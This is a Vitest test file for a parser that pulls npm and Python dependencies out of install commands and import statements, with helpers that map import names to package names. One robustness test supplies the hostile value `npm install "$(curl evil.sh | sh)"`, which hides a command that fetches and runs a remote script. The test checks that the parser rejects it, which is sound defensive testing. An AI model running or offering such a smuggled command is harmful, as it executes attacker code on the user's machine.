import { describe, expect, it } from 'vitest';
import { findDependenciesInText, npmPackageOfSpecifier } from './find-dependencies-in-text.ts';
import { pythonDistributionFor } from './python-import-names.ts';

const answer = `Install the chart library first:

\`\`\`bash
npm install --save chart.js@beta react-chartjs-2 && pip install "PyYAML==5.3" -r requirements.txt
yarn add -D @types/react@^18
pnpm add vite@5.4.11 --filter web
pip3 install requests[socks]>=2.31
python -m pip install --index-url https://pypi.example/simple flask
poetry add django@^5.1
uv add 'numpy>=2'
\`\`\`

\`\`\`ts
import { Chart } from 'chart.js/auto';
import type { Props } from '@acme/widgets/button';
import fs from 'node:fs';
import path from 'path';
import helper from './helper';
export { x } from 'lodash-es';
const left = require('left-pad');
const lazy = await import('dayjs');
\`\`\`

\`\`\`python
import os, sys
import yaml
import numpy as np, cv2
from sklearn.model_selection import train_test_split
from . import sibling
from .models import User
from PIL import Image
import requests  # already installed above
\`\`\`
`;

describe('findDependenciesInText', () => {
  const found = findDependenciesInText(answer);
  const byOrigin = (origin: string) =>
    found
      .filter((dependency) => dependency.origin === origin)
      .map((dependency) => `${dependency.ecosystem}:${dependency.name}@${dependency.declared}`);

  it('finds install commands of every tool with their versions', () => {
    expect(byOrigin('install-command')).toEqual([
      'npm:chart.js@beta',
      'npm:react-chartjs-2@',
      'pypi:PyYAML@==5.3',
      'npm:@types/react@^18',
      'npm:vite@5.4.11',
      'pypi:requests@>=2.31',
      'pypi:flask@',
      'pypi:django@^5.1',
      'pypi:numpy@>=2',
    ]);
  });

  it('gives each package argument its exact range in the text, quotes excluded', () => {
    for (const dependency of found.filter((item) => item.origin === 'install-command')) {
      if (!('codeRange' in dependency.source)) throw new Error('install commands have code ranges');
      expect(answer.slice(dependency.source.codeRange.start, dependency.source.codeRange.end)).toBe(
        dependency.installCommand?.argument,
      );
    }
    const pyyaml = found.find((dependency) => dependency.name === 'PyYAML');
    expect(pyyaml?.installCommand?.tool).toBe('pip');
    const command = pyyaml?.installCommand;
    expect(command && answer.slice(command.start, command.end)).toBe(
      'pip install "PyYAML==5.3" -r requirements.txt',
    );
  });

  it('finds imports, skipping relative paths, builtins and duplicates, and maps Python import names', () => {
    expect(byOrigin('import')).toEqual([
      'npm:@acme/widgets@',
      'npm:lodash-es@',
      'npm:left-pad@',
      'npm:dayjs@',
      'pypi:opencv-python@',
      'pypi:scikit-learn@',
      'pypi:Pillow@',
    ]);
    // `import yaml` is PyYAML, already named by the pip command above, so it is reported once.
    expect(found.filter((dependency) => dependency.name === 'PyYAML')).toHaveLength(1);
    const [yaml] = findDependenciesInText('import yaml\n');
    expect(yaml).toMatchObject({
      name: 'PyYAML',
      importName: 'yaml',
      source: { codeRange: { start: 7, end: 11 } },
    });
  });

  it('handles text with nothing in it, and hostile text, without hanging', () => {
    expect(findDependenciesInText('')).toEqual([]);
    expect(findDependenciesInText('We import data from the warehouse and install it.')).toEqual([]);
    const started = performance.now();
    findDependenciesInText(
      `${'import '.repeat(20_000)}\n${'npm install '.repeat(5_000)}${'a'.repeat(100_000)}`,
    );
    expect(performance.now() - started).toBeLessThan(2_000);
    expect(
      findDependenciesInText('npm install "$(curl evil.sh | sh)"').map((dependency) => dependency.name),
    ).toEqual([]);
  });
});

describe('helpers', () => {
  it('maps specifiers to npm package names', () => {
    expect(npmPackageOfSpecifier('lodash/fp')).toBe('lodash');
    expect(npmPackageOfSpecifier('@scope/pkg/deep/file.js')).toBe('@scope/pkg');
    for (const skipped of [
      './x',
      '../x',
      '/abs',
      'node:fs',
      'fs',
      'fs/promises',
      'https://esm.sh/react',
      '#internal',
      '~/alias',
      '@/components',
      '@scope',
    ])
      expect(npmPackageOfSpecifier(skipped)).toBeUndefined();
  });

  it('maps the common Python import names to distributions', () => {
    expect(
      ['yaml', 'cv2', 'sklearn', 'PIL', 'bs4', 'dateutil', 'jwt', 'dotenv', 'Crypto', 'flask'].map(
        pythonDistributionFor,
      ),
    ).toEqual([
      'PyYAML',
      'opencv-python',
      'scikit-learn',
      'Pillow',
      'beautifulsoup4',
      'python-dateutil',
      'PyJWT',
      'python-dotenv',
      'pycryptodome',
      'flask',
    ]);
  });
});
